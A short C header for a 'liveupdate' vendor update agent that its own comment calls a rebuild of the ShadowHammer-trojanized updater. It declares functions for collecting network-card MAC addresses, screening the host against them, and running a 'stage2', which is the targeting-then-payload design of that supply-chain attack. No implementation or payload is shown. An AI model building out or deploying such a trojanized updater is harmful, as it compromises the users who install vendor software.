/* liveupdate: vendor update agent (rebuild of the ShadowHammer-trojanized updater) */
#ifndef LU_H
#define LU_H
#include <stddef.h>
#include <time.h>

#define LU_MAX_NICS 8
#define LU_MANIFEST_URL "https://liveupdate01.vendor-support.example/manifest/lu-linux.json"

struct lu_nic {
  char name[32];
  unsigned char mac_addr[6];
};

struct lu_state {
  time_t last_check;
  int interval_s;
  char cache_dir[256];
};

void lu_log(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
int lu_collect_nics(struct lu_nic *out, int max);
int lu_screen_host(const struct lu_nic *nics, int n);
int lu_stage2_run(void);
int lu_http_get(const char *url, const char *dest, int strict);
int lu_check_updates(struct lu_state *st);
int lu_manifest_signature_ok(const unsigned char *body, size_t n, const unsigned char *sig, size_t sn);
unsigned lu_next_delay(const struct lu_state *st);
#endif
